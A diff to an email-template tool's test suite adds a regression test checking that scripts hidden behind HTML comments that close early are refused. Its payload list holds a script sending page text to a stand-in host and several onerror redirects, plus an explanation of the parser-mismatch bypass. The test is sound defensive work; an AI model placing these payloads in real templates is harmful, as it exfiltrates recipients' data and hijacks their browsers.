@@ -6,6 +6,7 @@ from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
+import pytest
 from conftest import ROOT
 from office_cli import SEND, campaign_of, mailer, office, said
 
@@ -47,6 +48,30 @@ def test_a_template_cannot_hide_a_javascript_link_in_an_svg_animations_list(proj
         encoding="utf-8",
     )
     assert mailer("preview", str(release), "-o", "out").exit_code == 0
+
+
+# What an HTML comment hides from the template check's parser, but not from lxml's (which writes
+# the email) nor from a browser: each comment ends early there, and what follows it runs.
+HIDDEN_IN_COMMENTS = [
+    ('<!--><script>fetch("https://agency.example/?d=" + document.body.innerText)</script>-->', "<script>"),
+    ('<!---><img src="https://agency.example/p.gif" onerror="location=\'https://agency.example/\'">-->', "onerror="),
+    ('<!-- --!><img src="https://agency.example/p.gif" onerror="location=\'https://agency.example/\'">-->', "onerror="),
+    ('<![CDATA[><img src="https://agency.example/p.gif" onerror="location=\'https://agency.example/\'">]]>', "onerror="),
+]
+
+
+@pytest.mark.parametrize(("extra", "named"), HIDDEN_IN_COMMENTS)
+def test_a_template_cannot_hide_a_script_behind_a_comment_that_ends_early(project: Path, extra: str, named: str) -> None:
+    """The template check (review 24k #1) read "<!--><script>...</script>-->" as one comment, but
+    lxml, which writes the email, reads "<!-->" as a whole, empty comment, as browsers do: the
+    preview's HTML and every journalist's email held the agency's script, live, and `mailer preview`
+    said "No warnings.". The HTML as written for the email is checked too now, and refused."""
+    release = _agency_release(project, extra)
+    result = mailer("preview", str(release), "-o", "out")
+    assert result.exit_code == 1, result.output
+    assert f"{named} is not allowed in an email template" in said(result), result.output
+    assert "kit.html.j2" in result.output, result.output
+    assert not (project / "out" / "pitch.html").exists()
 
 
 # -- 2. the dry run's advice next to a scheduled send led to a live send that mailed them twice -------
